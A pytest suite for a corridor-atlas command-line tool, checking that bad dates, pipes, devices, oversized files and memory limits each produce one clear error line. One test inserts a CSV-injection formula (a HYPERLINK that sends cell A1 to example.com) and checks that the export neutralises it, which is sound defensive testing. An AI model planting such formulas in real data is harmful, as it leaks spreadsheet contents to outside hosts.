"""Nothing given to the command line crashes, hangs or exhausts it (issue 11): each bad input gets
one line on standard error that names the file or option and says what is wrong, never a
traceback. Each test runs ``python -m geo`` as a user would."""

from __future__ import annotations

import csv
import io
import json
import os
import sys

import pytest

from tests.conftest import DATA, ROOT, folder_hashes, run_cli

SEED = DATA / "sources" / "f2840b807d95501f.txt"
pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="pipes, devices and ulimit")


def one_line_error(r, expected: str, code: int = 1) -> None:
    assert "Traceback" not in r.stderr, r.stderr
    assert r.returncode == code, (r.returncode, r.stderr)
    assert r.stderr.splitlines() == [expected]


def capped(memory_kib: int, *args: str):
    """``python -m geo ARGS`` under ``ulimit -v`` (virtual memory in KiB)."""
    import subprocess

    command = " ".join(["ulimit -v", str(memory_kib), ";", sys.executable, "-m", "geo", *args])
    return subprocess.run(
        ["bash", "-c", command], cwd=ROOT, capture_output=True, text=True, timeout=300
    )


# --- dates given on the command line ----------------------------------------------------------

BAD_PUBLISHED = {
    "2025-13-40": "is impossible: month must be in 1..12",
    "2025-02-30": "is impossible: day is out of range for month",
    "yesterday": "is not YYYY, YYYY-MM or YYYY-MM-DD",
    "0000-01-01": "is impossible: year 0 is out of range",
    "99999-01-01": "is not YYYY, YYYY-MM or YYYY-MM-DD",
    "2025-1-5": "is not YYYY, YYYY-MM or YYYY-MM-DD",
    "1e9": "is not YYYY, YYYY-MM or YYYY-MM-DD",
    "2025-06-18T10:00": "is not YYYY, YYYY-MM or YYYY-MM-DD (a time of day is not part of it)",
}


@pytest.mark.parametrize("value", BAD_PUBLISHED)
def test_events_refuses_a_bad_publication_date_in_one_line(value):
    r = run_cli("events", str(SEED), "--published", value, "--json")
    one_line_error(r, f"--published {value!r}: {BAD_PUBLISHED[value]}")
    assert r.stdout == ""


@pytest.mark.parametrize("value", ["2025-13-40", "2025-06-18T10:00"])
def test_ingest_refuses_the_same_dates_the_same_way(data_copy, value):
    r = run_cli(
        "ingest", str(SEED), "--title", "T", "--publisher", "P", "--lang", "en",
        "--published", value, "--data-dir", str(data_copy),
    )  # fmt: skip
    one_line_error(r, f"--published {value!r}: {BAD_PUBLISHED[value]}")
    assert not (data_copy / "inbox").exists()


# --- where an export is written -----------------------------------------------------------


def test_export_to_a_missing_folder_says_so(tmp_path):
    target = tmp_path / "nonexistent" / "dir" / "x.geojson"
    r = run_cli("export", "-o", str(target))
    one_line_error(r, f"{target}: cannot be written: folder {target.parent} does not exist")


def test_export_to_a_folder_says_so(tmp_path):
    r = run_cli("export", "-o", str(tmp_path))
    one_line_error(r, f"{tmp_path}: is a folder; give the name of a file to write")


def test_export_with_an_unknown_country_stops_and_lists_the_valid_ones(tmp_path):
    target = tmp_path / "out.geojson"
    r = run_cli("export", "--country", "XX", "-o", str(target))
    assert r.returncode == 2 and "Traceback" not in r.stderr
    first, last = r.stderr.splitlines()
    assert first.startswith("export: --country 'XX': not in the atlas; valid values: ")
    assert "KG (Kyrgyzstan)" in first and "KZ (Kazakhstan)" in first
    assert last == "export: nothing written (--ignore-unknown drops unknown values)"
    assert not target.exists()
    r = run_cli("export", "--country", "XX,KG", "--ignore-unknown", "-o", str(target))
    assert r.returncode == 0 and r.stderr == "Ignored country 'XX': not in the atlas.\n"
    features = json.loads(target.read_text())["features"]
    assert {f["properties"]["id"] for f in features} >= {"cku_railway"}


# --- only regular files are read ------------------------------------------------------------


def test_a_named_pipe_is_refused_not_waited_on(tmp_path):
    fifo = tmp_path / "article.txt"
    os.mkfifo(fifo)
    for command in ("link", "events"):
        r = run_cli(command, str(fifo), timeout=120)  # a blocked read would time out
        one_line_error(
            r, f"{fifo}: is a named pipe (FIFO), not a regular file; only regular files are read"
        )


def test_a_folder_given_as_the_text_is_refused(tmp_path):
    one_line_error(
        run_cli("link", str(tmp_path)),
        f"{tmp_path}: is a folder, not a regular file; only regular files are read",
    )


def test_dev_zero_under_a_memory_cap_is_refused_by_name():
    r = capped(2_000_000, "link", "/dev/zero")
    one_line_error(
        r, "/dev/zero: is a character device, not a regular file; only regular files are read"
    )


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(tmp_path):
    big = tmp_path / "big.txt"
    with big.open("wb") as f:
        f.truncate(65 * 2**20)  # sparse: takes no disk space
    one_line_error(
        run_cli("link", str(big)), f"{big}: is 65.0 MiB, more than the 64.0 MiB a file may have"
    )


def test_running_out_of_memory_is_one_line(tmp_path):
    text = tmp_path / "long.txt"
    text.write_text("Khorgos and the Middle Corridor grew in 2024. " * 1_200_000)  # 55 MB
    r = capped(700_000, "link", str(text))
    assert "Traceback" not in r.stderr, r.stderr[-2000:]
    # Where the machine has room for it, the text is linked; otherwise one line says why not.
    if r.returncode:
        (line,) = r.stderr.splitlines()
        assert "out of memory" in line or "not enough memory" in line, line


def test_ingest_refuses_a_pipe_in_a_folder_by_name_and_ingests_the_rest(tmp_path, data_copy):
    folder = tmp_path / "articles"
    folder.mkdir()
    (folder / "a.txt").write_text("Trucks queue at Khorgos.\n", encoding="utf-8")
    os.mkfifo(folder / "b.txt")
    r = run_cli(
        "ingest", str(folder), "--title", "T", "--publisher", "P", "--published", "2025-06-18",
        "--lang", "en", "--data-dir", str(data_copy), timeout=300,
    )  # fmt: skip
    assert r.returncode == 1 and "Traceback" not in r.stderr
    assert (
        f"{folder / 'b.txt'}: is a named pipe (FIFO), not a regular file; only regular files "
        "are read"
    ) in r.stderr.splitlines()
    assert "1 new in" in r.stderr and "1 failed" in r.stderr


# --- what the text holds ---------------------------------------------------------------------


def test_control_characters_are_warned_about_with_their_line_and_column(tmp_path, data_copy):
    article = tmp_path / "article.txt"
    article.write_bytes(b"Trucks queue at Khorgos.\nThe\x00 yard\x07 grew.\n")
    r = run_cli("link", str(article))
    assert r.returncode == 0 and "horgos" in r.stdout
    assert r.stderr.splitlines() == [
        f"{article}:2:4: warning: control character U+0000 (NUL); kept verbatim",
        f"{article}:2:10: warning: control character U+0007 (BEL); kept verbatim",
    ]
    r = run_cli(
        "ingest", str(article), "--title", "T", "--publisher", "P", "--published", "2025-06-18",
        "--lang", "en", "--data-dir", str(data_copy),
    )  # fmt: skip
    assert r.returncode == 0
    assert f"{article}:2:4: warning: control character U+0000 (NUL); kept verbatim" in r.stderr


# --- which data folder --------------------------------------------------------------------


def test_the_command_line_honours_corridor_atlas_data_as_the_app_does(data_copy):
    before = folder_hashes(DATA)
    env = {**os.environ, "CORRIDOR_ATLAS_DATA": str(data_copy)}
    r = run_cli(
        "ingest", str(SEED), "--title", "T", "--publisher", "P", "--published", "2025-06-18",
        "--lang", "en", env=env, timeout=300,
    )  # fmt: skip
    assert r.returncode == 0, r.stderr
    assert "already in the atlas" in r.stderr  # the seed is a source of the copy
    (data_copy / "events.json").write_text("[", encoding="utf-8")
    r = run_cli("validate", env=env)
    assert r.returncode == 1
    assert r.stdout.splitlines()[0].startswith("data/events.json: -: invalid JSON")
    assert folder_hashes(DATA) == before


def test_review_refuses_a_pipe_in_the_inbox_by_name(tmp_path, data_copy):
    article = tmp_path / "a.txt"
    article.write_text("Trucks queue at Khorgos.\n", encoding="utf-8")
    r = run_cli(
        "ingest", str(article), "--title", "T", "--publisher", "P", "--published", "2025-06-18",
        "--lang", "en", "--data-dir", str(data_copy),
    )  # fmt: skip
    sid = r.stdout.split("\t")[0]
    review = data_copy / "inbox" / f"{sid}.review.json"
    review.unlink()
    os.mkfifo(review)
    r = run_cli("review", "show", sid, "--data-dir", str(data_copy), timeout=120)
    one_line_error(
        r, f"{review}: is a named pipe (FIFO), not a regular file; only regular files are read"
    )


# --- exports that open cleanly ---------------------------------------------------------------


def test_a_formula_in_a_feature_name_reaches_the_csv_neutralised(data_copy, tmp_path):
    formula = '=HYPERLINK("http://example.com/?x="&A1,"Kashgar")'
    path = data_copy / "corridors.geojson"
    doc = json.loads(path.read_text(encoding="utf-8"))
    kashgar = next(f for f in doc["features"] if f["properties"]["id"] == "kashgar")
    kashgar["properties"]["name"] = formula
    path.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    target = tmp_path / "features.csv"
    r = run_cli("export", "--format", "csv", "--data-dir", str(data_copy), "-o", str(target))
    assert r.returncode == 0, r.stderr
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(raw.decode("utf-8-sig")))}
    assert rows["kashgar"]["name"] == "'" + formula
    sidecar = json.loads((tmp_path / "features.csv-metadata.json").read_text(encoding="utf-8"))
    assert sidecar["url"] == "features.csv" and sidecar["metadata"]["filters"] == {}
